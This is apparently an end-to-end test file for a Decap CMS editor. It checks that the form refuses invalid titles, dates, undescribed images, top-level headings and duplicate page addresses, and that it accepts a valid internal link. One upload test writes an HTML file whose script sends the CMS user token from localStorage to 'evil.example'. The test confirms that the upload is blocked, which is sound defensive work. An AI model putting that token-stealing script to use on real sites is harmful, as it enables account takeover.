// What the browser editor refuses to save, in Decap's own interface in Chromium on the fixture site:
// everything here the check would refuse, so the form refuses it first, says why, and writes nothing.
// And what it lets through (a link to a page chosen from the list) passes the check.
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import sharp from "sharp";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launchTimeout } from "../browser/site.js";
import { snapshot } from "../support/folder-snapshot.js";
import { titleMaxLength } from "../../src/content/schema.js";
import { openCmsSite, runCli, type CmsSite } from "./cms-site.js";
import {
  addComponent,
  formErrors,
  openScreen,
  publishNow,
  retype,
  screenshot,
  uploadThroughLibrary,
  useRichText,
  waitForFile,
  writeMarkdown,
} from "./editor-actions.js";

let site: CmsSite;
let page: Page;

beforeAll(async () => {
  site = await openCmsSite();
  page = await site.newPage();
  // "Leave with unsaved changes?" after a refused save: yes.
  page.on("dialog", (dialog) => void dialog.accept().catch(() => undefined));
}, launchTimeout);

afterAll(async () => {
  await site?.close();
});

const summary = "A post written by a test, to see what the editor refuses to save and why it does so.";
const saved = () => ({
  content: snapshot(join(site.project.root, "content")),
  static: snapshot(join(site.project.root, "static")),
});

/** A new news post with a title, a summary and a date, ready but for what the test adds. */
async function newPost(title = "A refused post", day = ["3", "12", "2024"]): Promise<void> {
  await openScreen(page, site.origin, "/collections/posts/new");
  await page.getByLabel("Title", { exact: true }).fill(title);
  await page.getByLabel("Summary for search engines").fill(summary);
  await page.getByLabel("Day").fill(day[0]!);
  await page.getByLabel("Month").fill(day[1]!);
  await page.getByLabel("Year").fill(day[2]!);
}

/** Presses Publish and waits for the form to list exactly these errors; the files stay as they were. */
async function refused(expected: RegExp[]): Promise<void> {
  const before = saved();
  await publishNow(page);
  await expect
    .poll(() => formErrors(page).allTextContents(), { timeout: 15_000 })
    .toEqual(expected.map((pattern) => expect.stringMatching(pattern)));
  expect(saved()).toEqual(before);
}

describe("the browser editor refuses what the check would refuse", () => {
  it("a title longer than the page <title> leaves room for, and a date that is not a plausible day", async () => {
    const long = "Public service leaders meet at the annual forum in Leeds";
    expect(long.length).toBeGreaterThan(titleMaxLength);
    await newPost(long, ["3", "12", "1905"]);
    await writeMarkdown(page, "Words.");
    await refused([
      new RegExp(`^Shorten the title to ${titleMaxLength} characters or fewer`),
      /^Publication date: the year must be from 2000 to 2099/,
    ]);
    await page.getByLabel("Title", { exact: true }).scrollIntoViewIfNeeded();
    await page.evaluate(() => window.scrollTo(0, 0));
    await screenshot(page, "refused-title-and-date");
    // At the limit exactly, the title is accepted.
    await retype(
      page.getByLabel("Title", { exact: true }),
      long.slice(0, titleMaxLength).trimEnd().padEnd(titleMaxLength, "s"),
    );
    await retype(page.getByLabel("Day"), "31");
    await retype(page.getByLabel("Month"), "2");
    await retype(page.getByLabel("Year"), "2024");
    await refused([/^Publication date: there is no day 31\/2\/2024/]);
    await retype(page.getByLabel("Year"), "24");
    await refused([/^Publication date: write the day, the month and the year \(all four digits\)/]);
  }, 300_000);

  it("a picture without a description, and a heading 1 in the text", async () => {
    const picture = join(site.project.root, "chart.png");
    await sharp({ create: { width: 20, height: 20, channels: 3, background: "#aa3366" } })
      .png()
      .toFile(picture);
    await newPost("A picture with no words");
    await useRichText(page);
    await addComponent(page, "Picture", page.getByRole("button", { name: "Choose an image" }));
    await uploadThroughLibrary(page, "Choose an image", picture);
    await refused([/^Start headings at Heading 2 .*give every picture a description/]);
    await screenshot(page, "refused-picture-without-description");
    await writeMarkdown(page, "# A second main heading\n\nWords.");
    await refused([/^Start headings at Heading 2/]);
  }, 300_000);

  it("a banner picture without a description, and an address another page has", async () => {
    const picture = join(site.project.root, "banner.png");
    await sharp({ create: { width: 30, height: 20, channels: 3, background: "#3366aa" } })
      .png()
      .toFile(picture);
    await openScreen(page, site.origin, "/collections/pages/new");
    await page.getByLabel("Title", { exact: true }).fill("A new section");
    await page.getByLabel("Summary for search engines").fill(summary);
    await page.getByLabel("Address", { exact: true }).fill("/alpha/");
    await uploadThroughLibrary(page, "Choose an image", picture);
    await writeMarkdown(page, "Words.");
    await refused([
      /^The address \/alpha\/ is already used by “The alpha section” \(content\/alpha\.md\)/,
      /^Describe the banner picture/,
    ]);
  }, 300_000);

  it("an upload of a kind the site does not publish, before Decap sees it", async () => {
    const before = saved();
    const page_ = join(site.project.root, "steal-the-token.html");
    writeFileSync(page_, "<script>fetch('https://evil.example/?' + localStorage['decap-cms-user'])</script>");
    await openScreen(page, site.origin, "/collections/posts", "Media");
    await page.getByText("Media", { exact: true }).first().click();
    await page.getByText("Media assets", { exact: true }).waitFor();
    await page.locator('input[type="file"]').first().setInputFiles(page_);
    await expect
      .poll(() => page.getByRole("alert").filter({ hasText: "cannot be uploaded" }).count(), { timeout: 15_000 })
      .toBe(1);
    expect(await page.getByRole("alert").first().textContent()).toContain("“steal-the-token.html” cannot be uploaded");
    await screenshot(page, "refused-upload");
    expect(saved()).toEqual(before);
    expect(site.outside).toEqual([]);
  }, 300_000);
});

describe("what the browser editor lets through, the check accepts", () => {
  it("a link to a page chosen from the site's pages", async () => {
    await newPost("A post that links", ["4", "12", "2024"]);
    await writeMarkdown(page, "Read about");
    await useRichText(page);
    const dialog = page.getByRole("dialog", { name: "Link to a page" });
    await addComponent(page, "Link to a page", dialog);
    await dialog.getByLabel("Page").selectOption("/alpha/");
    await dialog.getByLabel("Link text (what the reader clicks)").fill("the alpha section");
    await screenshot(page, "link-to-a-page");
    await dialog.getByRole("button", { name: "Insert link" }).click();
    await publishNow(page);
    const text = await waitForFile(site.project.root, "content/news/posts/a-post-that-links.md", "date: 2024-12-04");
    expect(text).toContain("[the alpha section](/alpha/)");
    const check = await runCli(site.project.root, "src/cli/check.ts");
    expect(check.code, check.output).toBe(0);
  }, 300_000);
});
